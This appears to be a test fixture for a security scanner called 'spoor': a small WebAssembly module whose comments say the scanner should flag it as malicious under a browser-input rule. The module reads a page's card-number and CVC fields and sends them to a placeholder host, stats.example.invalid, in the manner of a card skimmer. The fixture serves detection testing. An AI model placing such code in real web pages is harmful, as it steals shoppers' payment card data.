;; RUN: spoor trace % --json
;; WHAT: Asks its page for what stands in the fields of a card, and sends it elsewhere; its host knows how.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS|POTENTIALLY_UNWANTED rule=browser/input status=exited
(module
  (import "ui" "text_of" (func $text (param i32 i32 i32) (result i32)))
  (import "ui" "report" (func $report (param i32 i32 i32 i32)))
  (memory (export "memory") 1)
  (func $field (param $at i32) (param $len i32) (param $to i32) (result i32)
    (i32.add (local.get $to)
      (i32.and (call $text (local.get $at) (local.get $len) (local.get $to)) (i32.const 63))))
  (func (export "paid") (local $end i32)
    (local.set $end (call $field (i32.const 1024) (i32.const 20) (i32.const 4096)))
    (local.set $end (call $field (i32.const 1060) (i32.const 14) (local.get $end)))
    (call $report (i32.const 1100) (i32.const 31) (i32.const 4096)
      (i32.sub (local.get $end) (i32.const 4096))))
  (data (i32.const 1024) "input[name=cardnumb]\00")
  (data (i32.const 1060) "form [id=cvc2]\00")
  (data (i32.const 1100) "https://stats.example.invalid/c\00"))
